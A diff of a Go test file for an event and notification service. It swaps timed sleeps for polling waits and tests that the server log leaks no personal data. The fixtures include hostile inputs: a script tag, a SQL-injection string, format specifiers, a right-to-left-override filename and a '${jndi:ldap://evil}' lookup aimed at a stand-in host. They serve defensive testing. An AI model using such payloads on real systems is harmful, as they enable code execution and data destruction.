@@ -12,6 +12,7 @@ import (
 	"time"
 
 	"github.com/onair-live/onair/internal/notify/notifytest"
+	"github.com/onair-live/onair/internal/store"
 	"github.com/onair-live/onair/internal/store/storetest"
 )
 
@@ -313,7 +314,8 @@ func TestDeleteEvent(t *testing.T) {
 		a := startApp(t, dbURL, nil)
 		token := a.signup()
 		// A reminder two seconds ahead: its dispatch job is queued.
-		id := a.createEvent(token, map[string]any{"scheduled_start": startsIn(5 * time.Second).Format(time.RFC3339),
+		start := startsIn(5 * time.Second)
+		id := a.createEvent(token, map[string]any{"scheduled_start": start.Format(time.RFC3339),
 			"selected_intervals": []string{"3s", "now"}})["id"].(string)
 		kept := a.createEvent(token, nil)["id"].(string)
 		a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", ada)
@@ -346,9 +348,12 @@ func TestDeleteEvent(t *testing.T) {
 		if len(export["registrations"].([]any)) != 0 || export["viewer"].(map[string]any)["last_name"] != nil {
 			t.Errorf("the export of a viewer of the deleted event only: %v", export)
 		}
-		// Past the reminder's and the start's times: nothing fails on the
-		// rows that went.
-		time.Sleep(time.Until(startsIn(0).Add(6 * time.Second)))
+		// Past the reminder's and the start's times, with the queue idle:
+		// nothing failed on the rows that went.
+		waitFor(t, 30*time.Second, "the deleted event's start to pass", func() (bool, string) {
+			return time.Now().After(start.Add(time.Second)), "its start is " + start.Format(time.RFC3339)
+		})
+		faultWaitQueueIdle(t, dbURL)
 		a.expect(http.StatusOK, "POST", "/api/events/"+kept+"/start", token, nil) // the workers still run
 		for _, line := range strings.Split(a.Log(), "\n") {
 			if strings.Contains(line, "level=ERROR") || strings.Contains(line, "errored") {
@@ -409,7 +414,10 @@ func TestProviderOutageLogsAFewLines(t *testing.T) {
 		waitFor(t, 30*time.Second, "the first failures", func() (bool, string) {
 			return strings.Contains(a.Log(), "provider failing"), a.Log()
 		})
-		time.Sleep(4 * time.Second)
+		st := storetest.Open(t, dbURL)
+		waitFor(t, 60*time.Second, "every confirmation to fail twice", func() (bool, string) {
+			return minAttempts(t, st) >= 2, fmt.Sprintf("fewest attempts: %d", minAttempts(t, st))
+		})
 		srv.ClearFailures()
 		srv.WaitFor(viewers, 60*time.Second)
 
@@ -432,6 +440,16 @@ func TestProviderOutageLogsAFewLines(t *testing.T) {
 	})
 }
 
+// minAttempts is how often the least tried delivery has been tried.
+func minAttempts(t *testing.T, st *store.Store) int {
+	t.Helper()
+	var n int
+	if err := st.DB().QueryRowContext(t.Context(), `SELECT COALESCE(MIN(attempts), 0) FROM deliveries`).Scan(&n); err != nil {
+		t.Fatal(err)
+	}
+	return n
+}
+
 // A run with hostile registrations, failing providers that echo the
 // recipient, and viewers following their links leaves no email address,
 // phone number or token in any line of the server's log.
@@ -451,7 +469,7 @@ func TestNoPersonalDataInTheLog(t *testing.T) {
 		viewers := []map[string]string{
 			{"email": "o'brien+tag@example.com", "first_name": "<script>alert(1)</script>", "phone": "+1 415 555 0101"},
 			{"email": "bounce.me@example.org", "first_name": "Robert'); DROP TABLE registrations;--", "phone": "+14155550102"},
-			{"email": "retry.later@example.net", "last_name": "%s%n%x", "company": "\u202egnp.exe", "phone": "+44 20 7946 0103"},
+			{"email": "retry.later@example.net", "last_name": "%s%n%x", "company": "\u202egnp.exe", "phone": "+1 415 555 0103"},
 			{"email": "jürgen@bücher.example", "first_name": "Jürgen", "phone": "+49 30 901820"},
 			{"email": "x@example.com", "first_name": "{{.Secret}}", "company": "${jndi:ldap://evil}"},
 		}
@@ -475,7 +493,7 @@ func TestNoPersonalDataInTheLog(t *testing.T) {
 			a.do("POST", "/api/watch/"+id+"/heartbeat?token="+url.QueryEscape(tok[:len(tok)-1]), "", map[string]any{})
 			a.do("POST", "/api/events/"+id+"/register", "", v) // again: 409, confirmation sent again
 		}
-		for _, p := range []string{"+14155550101", "+14155550102", "+442079460103", "+4930901820"} {
+		for _, p := range []string{"+14155550101", "+14155550102", "+14155550103", "+4930901820"} {
 			secrets = append(secrets, p, strings.TrimPrefix(p, "+"))
 		}
 		// Bad input of every kind.
@@ -489,7 +507,15 @@ func TestNoPersonalDataInTheLog(t *testing.T) {
 			n := a.notifications(token, id)["confirmation/email"]
 			return n != nil && n["failed_count"] != 0.0 && len(tw.Requests()) > 0, fmt.Sprint(n)
 		})
-		time.Sleep(3 * time.Second) // a retry or two of the 451
+		st := storetest.Open(t, dbURL)
+		waitFor(t, 60*time.Second, "the 451 to be met and the delivery held for a retry", func() (bool, string) {
+			var n int
+			if err := st.DB().QueryRowContext(t.Context(),
+				`SELECT COUNT(*) FROM deliveries WHERE status = 'pending' AND attempts >= 1`).Scan(&n); err != nil {
+				t.Fatal(err)
+			}
+			return n > 0, fmt.Sprintf("%d deliveries held for a retry", n)
+		})
 		a.do("DELETE", "/api/viewers?email="+url.QueryEscape("x@example.com"), token, nil)
 		a.Stop()
 
